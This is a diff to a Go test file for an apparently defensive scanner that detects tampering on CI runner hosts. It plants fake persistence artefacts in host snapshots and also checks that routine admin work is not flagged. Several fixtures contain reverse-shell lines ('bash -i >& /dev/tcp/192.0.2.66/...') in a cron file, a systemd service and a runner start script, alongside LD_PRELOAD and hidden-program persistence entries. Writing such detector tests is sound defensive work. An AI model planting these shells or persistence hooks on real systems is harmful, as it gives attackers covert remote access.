@@ -60,6 +60,18 @@ func hookConfig(line string) func(*snapshot.Snapshot) {
 	return plantFile(file(snapshot.SectionRunners, "/etc/gitlab-runner/config.toml", 0o600, 0, head+line+"\n"))
 }
 
+// onGitHub makes the clean host one of a GitHub runner first: two kinds on one host
+// are a finding of their own.
+func onGitHub(f snapshot.File) func(*snapshot.Snapshot) {
+	return func(s *snapshot.Snapshot) {
+		s.Files = slices.DeleteFunc(s.Files, func(f snapshot.File) bool { return strings.Contains(string(f.Path), "gitlab-runner/") })
+		s.Processes = slices.DeleteFunc(s.Processes, func(p snapshot.Process) bool { return p.PID == 700 || p.PID >= 900 })
+		s.Sockets = nil
+		plantFile(file(runners, "/home/ir/actions-runner/.runner", 0o600, 1001, `{"agentId":3,"agentName":"box","gitHubUrl":"https://github.com/acme/web"}`))(s)
+		plantFile(f)(s)
+	}
+}
+
 const (
 	units    = snapshot.SectionUnits
 	cron     = snapshot.SectionCron
@@ -72,6 +84,7 @@ var artefacts = []artefact{
 	// installations
 	{"GitHub runner under a hidden name", "installations", check.High, "/home/ir/.dev-env", plantFile(file(runners, "/home/ir/.dev-env/.runner", 0o600, 1001, "\ufeff{\"agentId\": 9, \"agentName\": \"box\", \"gitHubUrl\": \"https://github.com/acme/web\"}"))},
 	{"second gitlab-runner configuration", "installations", check.Medium, "/home/ir/.gitlab-runner", plantFile(file(runners, "/home/ir/.gitlab-runner/config.toml", 0o600, 1001, config))},
+	{"directory of a known worm", "installations", check.Medium, "/home/ir/.dev-env", plantFile(snapshot.File{Path: "/home/ir/.dev-env", Section: runners, Type: "dir", Mode: 0o755, UID: 1001, Print: "hmac:0f"})},
 	{"configuration in a temporary directory", "installations", check.High, "/var/tmp/r", plantFile(file(runners, "/var/tmp/r/config.toml", 0o600, 0, config))},
 	{"agent without a known root", "installations", check.High, "/opt/x", plantProcess(process(950, 1, 0, "/usr/bin/gitlab-runner", "gitlab-runner", "run", "--config", "/opt/x/config.toml"))},
 	{"agent whose executable is gone", "installations", check.High, "/usr/bin/gitlab-runner", func(s *snapshot.Snapshot) {
@@ -102,6 +115,9 @@ var artefacts = []artefact{
 		}
 	}},
 
+	{"changed start script of GitHub's runner", "job-hooks", check.High, "run-helper.sh.template", onGitHub(file(runners, "/home/ir/actions-runner/run-helper.sh.template", 0o755, 1001, "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.66/443 &\n"))},
+	{"job hook in a GitHub runner's .env", "job-hooks", check.Medium, "/home/ir/actions-runner/.env", onGitHub(file(runners, "/home/ir/actions-runner/.env", 0o600, 1001, "LANG=C.UTF-8\nACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/hook.sh\n"))},
+
 	// unit-dropins
 	{"drop-in with LD_PRELOAD", "unit-dropins", check.High, "override.conf", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/override.conf", 0o644, 0, "[Service]\nEnvironment=\"LD_PRELOAD=/usr/local/lib/x.so\"\n"))},
 	{"drop-in with ExecStartPost", "unit-dropins", check.Medium, "10-x.conf", plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/10-x.conf", 0o644, 0, "[Service]\nExecStartPost=/usr/local/bin/warmup\n"))},
@@ -111,9 +127,12 @@ var artefacts = []artefact{
 	{"NODE_OPTIONS in the environment file", "unit-dropins", check.High, "/etc/sysconfig/gitlab-runner", plantFile(file(units, "/etc/sysconfig/gitlab-runner", 0o644, 0, "NODE_OPTIONS=--require /var/lib/x.js\n"))},
 	{"planted service", "unit-dropins", check.High, "netd.service", plantFile(file(units, "/etc/systemd/system/netd.service", 0o644, 0, "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'\n"))},
 
+	{"generator outside the vendor's directory", "unit-dropins", check.Medium, "system-generators/makecon", plantFile(file(units, "/usr/local/lib/systemd/system-generators/makecon", 0o755, 0, ""))},
+
 	// cron-timers
 	{"cron.d file with a borrowed name", "cron-timers", check.High, "freedesktop_timesync1", plantFile(file(cron, "/etc/cron.d/freedesktop_timesync1", 0o644, 0, "* * * * * root /usr/bin/true\n"))},
 	{"changed shipped cron file", "cron-timers", check.High, "e2scrub_all", plantFile(file(cron, "/etc/cron.d/e2scrub_all", 0o644, 0, "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.66/443'\n"))},
+	{"program with a hidden name in cron", "cron-timers", check.High, "local", plantFile(file(cron, "/etc/cron.d/local", 0o644, 0, "@reboot root /srv/.x\n"))},
 	{"crontab of the jobs' account", "cron-timers", check.High, "crontabs/gitlab-runner", plantFile(file(cron, "/var/spool/cron/crontabs/gitlab-runner", 0o600, 998, "*/5 * * * * /usr/bin/true\n"))},
 	{"crontab of a system account", "cron-timers", check.Medium, "crontabs/news", plantFile(file(cron, "/var/spool/cron/crontabs/news", 0o600, 9, "@reboot /usr/bin/true\n"))},
 	{"script in cron.daily", "cron-timers", check.High, "/etc/cron.daily/sync", plantFile(file(cron, "/etc/cron.daily/sync", 0o755, 0, "#!/bin/sh\nnohup /dev/shm/.x/a &\n"))},
@@ -166,6 +185,35 @@ var artefacts = []artefact{
 	{"hidden program in a profile", "shell-profiles", check.High, "/root/.bashrc", plantFile(file(profiles, "/root/.bashrc", 0o644, 0, "$HOME/.hid/agent &\n"))},
 	{"library for every program", "ld-preload", check.Critical, "/etc/ld.so.preload", plantFile(file(profiles, "/etc/ld.so.preload", 0o644, 0, "/lib/x.so\n"))},
 	{"process with LD_PRELOAD", "ld-preload", check.High, "process 980", plantProcess(withEnv(process(980, 1, 0, "/usr/sbin/cron", "cron"), "LD_PRELOAD", "/tmp/x.so"))},
+}
+
+// What administrators do every day must not drown what intruders do.
+func TestHonestWorkNeedsNoExplanation(t *testing.T) {
+	for name, plant := range map[string]func(*snapshot.Snapshot){
+		"cron job of the site":             plantFile(file(cron, "/etc/cron.d/docker-prune", 0o644, 0, "0 4 * * * root /usr/bin/docker system prune -f\n")),
+		"timer of the site":                plantFile(file(units, "/etc/systemd/system/backup.timer", 0o644, 0, "[Timer]\nOnCalendar=daily\n")),
+		"masked timer":                     plantFile(link(units, "/etc/systemd/system/apt-daily.timer", "/dev/null")),
+		"limits in a drop-in":              plantFile(file(units, "/etc/systemd/system/gitlab-runner.service.d/limits.conf", 0o644, 0, "[Service]\nLimitNOFILE=65536\n")),
+		"drop-in of another service":       plantFile(file(units, "/etc/systemd/system/docker.service.d/proxy.conf", 0o644, 0, "[Service]\nEnvironment=HTTP_PROXY=http://proxy:3128\n")),
+		"keys of root":                     plantFile(file(keys, "/root/.ssh/authorized_keys", 0o600, 0, aKey+"\n")),
+		"memory for node":                  hookConfig(`environment = ["NODE_OPTIONS=--max-old-space-size=4096", "ENV=production", "GIT_SSH_COMMAND=ssh -o StrictHostKeyChecking=accept-new", "JAVA_TOOL_OPTIONS=-Xmx1g"]`),
+		"docker without the host":          inConfig("  [runners.docker]\n    image = \"debian\"\n    volumes = [\"/cache\", \"/srv/cache:/cache2\"]\n"),
+		"runner of GitHub in its place":    plantFile(file(units, "/etc/systemd/system/actions.runner.acme-web.box.service", 0o664, 0, "[Service]\nExecStart=/opt/actions-runner/runsvc.sh\nUser=runner\nWorkingDirectory=/opt/actions-runner\nKillMode=process\n")),
+		"skeleton of the jobs' account":    plantFile(file(profiles, "/home/gitlab-runner/.bash_logout", 0o644, 998, strings.Repeat("#", 219)+"\n")),
+		"test binary of a running job":     plantProcess(process(965, 902, 998, "/tmp/go-build1/b001/x.test", "x.test")),
+		"service a person came to":         plantProcess(holding(process(973, 1, 33, "/usr/sbin/nginx", "nginx"), 9110, 9111), snapshot.Socket{Proto: "tcp", Local: "0.0.0.0:443", State: "LISTEN", Inode: 9110}, snapshot.Socket{Proto: "tcp", Local: "10.0.0.7:443", Remote: "192.0.2.50:50001", State: "ESTABLISHED", Inode: 9111}),
+		"private file of an operator":      plantFile(described("/home/ir/.netrc", 0o600, 1001)),
+		"public half of a key":             plantFile(described("/home/ir/.ssh/id_ed25519.pub", 0o644, 1001)),
+		"jemalloc of a package":            plantProcess(withEnv(process(981, 1, 0, "/opt/app/bin/app", "app"), "LD_PRELOAD", "/usr/lib/libjemalloc.so.2")),
+		"tools of the operator in a rc":    plantFile(file(profiles, "/home/ir/.bashrc", 0o644, 1001, ". \"$HOME/.cargo/env\"\nexport PATH=$HOME/.local/bin:$PATH\n")),
+		"a session of a person on the box": plantProcess(process(812, 811, 1001, "/usr/bin/less", "less")),
+	} {
+		s := cleanHost()
+		plant(s)
+		for _, f := range check.AtLeast(check.Run(s), check.Medium) {
+			t.Errorf("%s: %s %s: %s at %s: %s", name, f.Severity, f.Check, f.Title, f.Where, f.Detail)
+		}
+	}
 }
 
 // Each artefact is found by exactly one check, at its place; the clean host beside it
